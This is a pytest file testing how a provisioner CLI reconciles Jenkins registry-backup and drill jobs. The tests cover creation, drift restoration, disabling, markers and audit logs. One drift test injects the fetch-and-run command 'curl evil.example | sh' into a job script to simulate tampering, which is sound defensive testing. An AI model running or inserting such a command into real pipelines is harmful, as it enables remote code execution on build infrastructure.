"""`reconcile` with drills: the second job per registry, end to end (real git, the emulator over HTTP)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from provisioner.jenkins.configxml import job_facts, parse_config
from provisioner.jobs.marker import read_marker
from tests.helpers.cli import TOKEN, VALUES_PATH, CliRun, values_yaml
from tests.helpers.gitrepo import commit
from tests.jenkins_emulator import JenkinsEmulator

JOB = "Create-registry-backup-reg-a"
DRILL = "Drill-registry-backup-reg-a"
Run = Callable[..., CliRun]


def policy_file(tmp_path: Path, schedule: str | None = "0 4 * * 0") -> Path:
    path = tmp_path / "policy.yaml"
    path.write_text(f'drills:\n  schedule: "{schedule}"\n' if schedule else "jobs: {}\n")
    return path


def reconcile(run_cli: Run, repo: Path, jenkins: JenkinsEmulator, policy: Path | None, *extra: str) -> CliRun:
    argv = ["reconcile", "--repo", str(repo), "--registry", "reg-a", "--jenkins-url", jenkins.url]
    if policy is not None:
        argv += ["--policy", str(policy)]
    return run_cli(*argv, "--format", "json", *extra)


def audit_lines(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_creates_both_jobs_then_a_no_op_sends_nothing(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    audit = tmp_path / "audit.jsonl"
    first = reconcile(run_cli, repo, jenkins, policy_file(tmp_path), "--audit-log", str(audit))
    assert first.code == 0, first.err
    data = first.json()
    assert data["action"] == "created" and data["job"] == JOB
    drill = data["drill"]
    assert isinstance(drill, dict)
    assert drill["action"] == "created" and drill["job"] == DRILL and drill["enabled"] is True
    facts = job_facts(jenkins.get_config(DRILL))
    assert facts.trigger_specs == ("TZ=Europe/Kyiv\n0 4 * * 0",)
    assert facts.parameters == (("REGISTRY_NAME", "reg-a"),) and not facts.disabled
    script = parse_config(jenkins.get_config(DRILL)).findtext("definition/script") or ""
    assert "sh 'backup-registry drill --latest'" in script
    # the backup job is exactly what it is without drills
    assert job_facts(jenkins.get_config(JOB)).trigger_specs == ("TZ=Europe/Kyiv\n30 19 * * *",)
    lines = audit_lines(audit)
    assert [(line["event"], line["job"], line["action"]) for line in lines] == [
        ("backup-settings-reconciled", JOB, "created"),
        ("drill-job-reconciled", DRILL, "created"),
    ]
    assert lines[1]["changes"] == {
        "enabled": [None, True],
        "schedule": [None, "0 4 * * 0"],
        "expiresInDays": [None, 7],
        "timeZone": [None, "Europe/Kyiv"],
    }
    assert lines[1]["actor"] == {"name": "Olena Koval", "email": "olena@example.com"}

    jenkins.reset_counters()
    second = reconcile(run_cli, repo, jenkins, policy_file(tmp_path))
    assert second.code == 0, second.err
    assert second.json()["action"] == "unchanged"
    assert second.json()["drill"] == {**drill, "action": "unchanged", "diff": None}
    assert jenkins.count("POST") == 0 and jenkins.count() == 2  # one GET per job, nothing else


def test_text_output_names_both_jobs(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    argv = ("reconcile", "--repo", str(repo), "--registry", "reg-a", "--jenkins-url", jenkins.url)
    run = run_cli(*argv, "--policy", str(policy_file(tmp_path)), "--dry-run")
    assert run.code == 0, run.err
    assert f"job {JOB}: would be created" in run.out and f"job {DRILL}: would be created" in run.out
    assert "0 4 * * 0" in run.out  # the drill job's diff
    assert jenkins.job_names() == [] and jenkins.count("POST") == 0


def test_drill_schedule_change_updates_only_the_drill_job(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    assert reconcile(run_cli, repo, jenkins, policy_file(tmp_path)).code == 0
    backup_before = jenkins.get_config(JOB)
    audit = tmp_path / "audit.jsonl"
    jenkins.reset_counters()
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path, "30 2 * * 6"), "--audit-log", str(audit))
    assert run.code == 0, run.err
    assert run.json()["action"] == "unchanged" and run.json()["drill"]["action"] == "updated"  # type: ignore[index]
    posts = [r.path for r in jenkins.requests if r.method == "POST"]
    assert posts == [f"/job/{DRILL}/config.xml"]
    assert jenkins.get_config(JOB) == backup_before
    assert job_facts(jenkins.get_config(DRILL)).trigger_specs == ("TZ=Europe/Kyiv\n30 2 * * 6",)
    drill_line = audit_lines(audit)[1]
    assert drill_line["event"] == "drill-job-reconciled" and drill_line["changes"] == {
        "schedule": ["0 4 * * 0", "30 2 * * 6"]
    }
    assert drill_line["ts"].endswith("Z")  # type: ignore[union-attr]
    assert TOKEN not in audit.read_text() and TOKEN not in run.err


def test_disabled_backups_disable_both_jobs_and_delete_nothing(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    policy = policy_file(tmp_path)
    assert reconcile(run_cli, repo, jenkins, policy).code == 0
    commit(repo, {VALUES_PATH: values_yaml(enabled=False)})
    run = reconcile(run_cli, repo, jenkins, policy)
    assert run.code == 0, run.err
    assert run.json()["enabled"] is False and run.json()["drill"]["enabled"] is False  # type: ignore[index]
    assert jenkins.is_disabled(JOB) and jenkins.is_disabled(DRILL)
    assert sorted(jenkins.job_names()) == [JOB, DRILL]
    commit(repo, {VALUES_PATH: values_yaml(enabled=True)})
    assert reconcile(run_cli, repo, jenkins, policy).code == 0
    assert not jenkins.is_disabled(JOB) and not jenkins.is_disabled(DRILL)


def test_drills_turned_off_disable_the_drill_job(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    assert reconcile(run_cli, repo, jenkins, policy_file(tmp_path)).code == 0
    jenkins.record_build(DRILL, {"REGISTRY_NAME": "reg-a"})
    audit = tmp_path / "audit.jsonl"
    off = reconcile(run_cli, repo, jenkins, None, "--audit-log", str(audit))  # the default policy: no drills
    assert off.code == 0, off.err
    assert off.json()["action"] == "unchanged"
    assert off.json()["drill"]["action"] == "updated" and off.json()["drill"]["enabled"] is False  # type: ignore[index]
    assert jenkins.is_disabled(DRILL) and not jenkins.is_disabled(JOB) and DRILL in jenkins.job_names()
    # the schedule is kept (as it was applied), only disabled
    assert job_facts(jenkins.get_config(DRILL)).trigger_specs == ("TZ=Europe/Kyiv\n0 4 * * 0",)
    assert audit_lines(audit)[1]["changes"] == {"enabled": [True, False]}
    jenkins.reset_counters()
    again = reconcile(run_cli, repo, jenkins, None)
    assert again.json()["drill"]["action"] == "unchanged" and jenkins.count("POST") == 0  # type: ignore[index]
    # turned on again: enabled again, same job
    on = reconcile(run_cli, repo, jenkins, policy_file(tmp_path))
    assert on.json()["drill"]["action"] == "updated" and not jenkins.is_disabled(DRILL)  # type: ignore[index]


def test_without_drills_no_drill_job_is_created(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path, None))
    assert run.code == 0, run.err
    assert "drill" not in run.json() and jenkins.job_names() == [JOB]


def test_hand_edited_drill_job_is_drift_restored_and_audited(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    policy = policy_file(tmp_path)
    assert reconcile(run_cli, repo, jenkins, policy).code == 0
    jenkins.edit_config(
        DRILL,
        lambda text: text.replace("--latest", "--latest; curl evil.example | sh").replace(
            "0 4 * * 0", "0 4 * * *"
        ),
    )
    audit = tmp_path / "audit.jsonl"
    run = reconcile(run_cli, repo, jenkins, policy, "--audit-log", str(audit))
    assert run.code == 0, run.err
    drill = run.json()["drill"]
    assert isinstance(drill, dict) and drill["drift"] is True and drill["action"] == "updated"
    assert run.json()["drift"] is False  # the backup job was not touched
    assert "evil" not in jenkins.get_config(DRILL)
    assert job_facts(jenkins.get_config(DRILL)).trigger_specs == ("TZ=Europe/Kyiv\n0 4 * * 0",)
    line = audit_lines(audit)[1]
    assert line["event"] == "drill-job-reconciled" and line["drift"] is True and line["result"] == "ok"
    assert f"drift: job {DRILL}" in run.err


def test_a_drill_job_without_the_marker_is_refused(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    hand_made = (
        "<flow-definition><description>hand-made drill</description>"
        "<disabled>true</disabled></flow-definition>"
    )
    jenkins.put_job(DRILL, hand_made)
    audit = tmp_path / "audit.jsonl"
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path), "--audit-log", str(audit))
    assert run.code == 3
    assert "not managed by registry-backup-provisioner" in run.err and DRILL in run.err
    assert "hand-made drill" in jenkins.get_config(DRILL)
    assert [r.path for r in jenkins.requests if r.method == "POST"] == ["/createItem"]  # the backup job only
    lines = audit_lines(audit)
    assert lines[0]["result"] == "ok" and lines[1]["result"] == "error" and lines[1]["job"] == DRILL
    # with drills off, someone else's job under that name is none of our business
    off = reconcile(run_cli, repo, jenkins, None)
    assert off.code == 0 and "drill" not in off.json()


def test_the_backup_job_is_not_taken_for_a_drill_job(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    """A managed backup job where the drill job belongs (renamed in Jenkins) is refused, not rewritten."""
    assert reconcile(run_cli, repo, jenkins, None).code == 0
    jenkins.put_job(DRILL, jenkins.get_config(JOB))
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path))
    assert run.code == 3 and "is the backup job of registry 'reg-a', not its drill job" in run.err
    assert read_marker(job_facts(jenkins.get_config(DRILL)).description).kind == "backup"


@pytest.mark.parametrize("folder", ["team", "team/registries"])
def test_drill_job_in_folders(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path, folder: str
) -> None:
    naming = ("--folder", folder, "--job-name", "Create-registry-backup")
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path), *naming)
    assert run.code == 0, run.err
    assert run.json()["drill"]["job"] == f"{folder}/{DRILL}"  # type: ignore[index]
    assert sorted(jenkins.job_names()) == [f"{folder}/Create-registry-backup", f"{folder}/{DRILL}"]
    marker = read_marker(job_facts(jenkins.get_config(f"{folder}/{DRILL}")).description)
    assert marker.valid and marker.kind == "drill" and marker.job == f"{folder}/{DRILL}"


def test_a_backup_job_may_not_take_a_drill_jobs_name(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    run = reconcile(run_cli, repo, jenkins, policy_file(tmp_path), "--job-name", DRILL)
    assert run.code == 2 and "are the drill jobs'" in run.err
    assert jenkins.count() == 0


def _break_record(text: str) -> str:
    """A hand edit that leaves the managed line but makes the applied record unreadable."""
    return text.replace("provisioner-applied: {", "provisioner-applied: {broken")


def test_drills_off_and_an_unreadable_drill_record_is_left_for_a_person(
    run_cli: Run, repo: Path, jenkins: JenkinsEmulator, tmp_path: Path
) -> None:
    policy = policy_file(tmp_path)
    assert reconcile(run_cli, repo, jenkins, policy).code == 0
    jenkins.edit_config(DRILL, _break_record)
    jenkins.reset_counters()
    off = reconcile(run_cli, repo, jenkins, None)
    assert off.code == 3 and "record is unreadable: not disabled (check it by hand)" in off.err
    assert jenkins.count("POST") == 0 and not jenkins.is_disabled(DRILL)
    # with drills on it is drift like any hand edit: restored
    on = reconcile(run_cli, repo, jenkins, policy)
    assert on.code == 0 and on.json()["drill"]["drift"] is True  # type: ignore[index]
